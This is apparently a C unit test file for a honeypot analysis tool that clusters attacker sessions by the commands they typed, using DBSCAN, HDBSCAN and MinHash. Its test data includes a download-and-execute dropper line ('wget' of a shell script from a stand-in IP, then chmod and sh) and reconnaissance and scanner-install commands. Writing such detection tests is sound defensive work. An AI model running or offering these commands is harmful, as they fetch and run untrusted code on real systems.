/* test_text.c - B3 and B4 (dbscan.c, hdbscan.c, minhash.c): the clusterings of what was typed. */
#include "groups.h"

#include <stdio.h>

static const char *const words[] = { "alpha", "bravo", "charlie", "delta", "echo", "foxtrot",
	"golf", "hotel", "india", "juliett", "kilo", "lima", "mike", "november", "oscar", "papa",
	"quebec", "romeo", "sierra", "tango", "uniform", "victor", "whiskey", "xray", "yankee",
	"zulu" };

/* `n` sources that type lines of words drawn at random: no two alike. */
static void
add_strangers(struct batch *b, uint32_t first, uint32_t n)
{
	for (uint32_t i = 0; i < n; i++) {
		char line[160];
		struct rng rng = rng_at(9, 2, i, first);
		int len = 0;

		for (int w = 0; w < 6; w++)
			len += snprintf(line + len, sizeof(line) - (size_t)len, "%s%u ",
			    words[rng_below(&rng, COUNT_OF(words))], rng_below(&rng, 1000));
		batch_add(b, &(struct batch_session){
				 .ip = first + i, .at_s = 3600.0 * i, .commands = { line } });
	}
}

static void
add_script(struct batch *b, uint32_t first, uint32_t n, const char *line)
{
	for (uint32_t i = 0; i < n; i++)
		batch_add(b, &(struct batch_session){
				 .ip = first + i, .at_s = 7000.0 * i, .commands = { line } });
}

#define SCRIPT "cd /tmp; wget http://192.0.2.7/bins.sh; chmod 777 bins.sh; sh bins.sh"

static void
check_groups_a_script(const char *id)
{
	struct batch *b = batch_new();
	struct groups g;
	uint32_t size;

	add_strangers(b, 100, 40);
	add_script(b, 10, 8, SCRIPT);
	add_script(b, 30, 7, "cat /proc/cpuinfo | grep name | wc -l");
	groups_of(&g, b, id);
	assert_true(groups_hold(&g, 10, 8, &size));
	assert_int_equal(size, 8);
	assert_true(groups_hold(&g, 30, 7, &size));
	assert_int_equal(size, 7);
	assert_int_equal(groups_reported(&g), 2);
	groups_clear(&g);
}

static void
test_scripts_are_grouped(void **state)
{
	(void)state;
	check_groups_a_script("B3a");
	check_groups_a_script("B3c");
	check_groups_a_script("B4");
}

/* HN1: whoever copies the public script is "the campaign", with the greatest confidence. */
static void
test_copycats_are_a_campaign(void **state)
{
	static const char *const ids[] = { "B3a", "B4" };

	(void)state;
	for (size_t i = 0; i < COUNT_OF(ids); i++) {
		struct batch *b = batch_new();
		struct groups g;

		add_strangers(b, 100, 10);
		add_script(b, 10, 30, "uname -a");
		groups_of(&g, b, ids[i]);
		assert_true(groups_hold(&g, 10, 30, NULL));
		assert_true(g.g.confidence > 0.99);
		groups_clear(&g);
	}
}

/* Each like the one before (Jaccard 11/13), the ends have nothing in common: one cluster all the same. */
static void
test_minhash_chains(void **state)
{
	struct batch *b = batch_new();
	struct groups g;

	(void)state;
	for (uint32_t i = 0; i < 15; i++) {
		char line[200];
		int len = 0;

		for (uint32_t w = i; w < i + 12; w++)
			len += snprintf(line + len, sizeof(line) - (size_t)len, "%s ",
			    words[w % COUNT_OF(words)]);
		batch_add(
		    b, &(struct batch_session){ .ip = 10 + i, .at_s = i, .commands = { line } });
	}
	groups_of(&g, b, "B4");
	assert_true(groups_hold(&g, 10, 15, NULL));
	arena_free(g.arena);
	groups_at(&g, NULL, "B4", 0.95, 1);
	assert_false(groups_hold(&g, 10, 15, NULL));
	groups_clear(&g);
}

/* Order is lost, and separators are blanks. */
static void
test_minhash_sets(void **state)
{
	struct batch *b = batch_new();
	struct groups g;

	(void)state;
	batch_add(b, &(struct batch_session){ .ip = 1, .commands = { "one two three", "four" } });
	batch_add(b, &(struct batch_session){ .ip = 2, .commands = { "four;three;two;one" } });
	batch_add(b, &(struct batch_session){ .ip = 3, .commands = { "two one four three" } });
	groups_of(&g, b, "B4");
	assert_true(groups_hold(&g, 1, 3, NULL));
	assert_true(g.g.confidence == 1);
	groups_clear(&g);
}

/* Sources that behave alike in numbers are one cluster, whatever they type. */
static void
test_numbers(void **state)
{
	struct batch *b = batch_new();
	struct groups g;

	(void)state;
	for (uint32_t i = 0; i < 6; i++)
		batch_add(b, &(struct batch_session){ .ip = 10 + i,
				 .at_s = 86400.0 * i,
				 .lasts_s = 300,
				 .commands = { "a", "b", i % 2 ? "c" : "d" } });
	for (uint32_t i = 0; i < 12; i++)
		batch_add(b, &(struct batch_session){ .ip = 100 + i,
				 .at_s = 7000.0 * i,
				 .lasts_s = 2.0 + i * i,
				 .credentials = { "root a", i % 3 ? "root b" : NULL } });
	groups_of(&g, b, "B3b");
	assert_true(groups_hold(&g, 10, 6, NULL));
	groups_clear(&g);
}

/* A tight cluster within a loose one: HDBSCAN finds both scripts of different likeness without an eps. */
static void
test_hdbscan_densities(void **state)
{
	struct batch *b = batch_new();
	struct groups g;
	uint32_t size;

	(void)state;
	add_strangers(b, 100, 30);
	add_script(b, 10, 10, SCRIPT);
	for (uint32_t i = 0; i < 10; i++) {
		char line[160];

		(void)snprintf(line, sizeof(line),
		    "apt update apt install screen masscan zmap tcpdump run%u run%u", i * 7,
		    i * 11);
		batch_add(b, &(struct batch_session){
				 .ip = 40 + i, .at_s = 500.0 * i, .commands = { line } });
	}
	groups_of(&g, b, "B3c");
	assert_true(groups_hold(&g, 10, 10, &size));
	assert_int_equal(size, 10);
	assert_true(groups_hold(&g, 40, 10, &size));
	assert_int_equal(size, 10);
	groups_clear(&g);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_scripts_are_grouped),
		cmocka_unit_test(test_copycats_are_a_campaign),
		cmocka_unit_test(test_minhash_chains),
		cmocka_unit_test(test_minhash_sets),
		cmocka_unit_test(test_numbers),
		cmocka_unit_test(test_hdbscan_densities),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
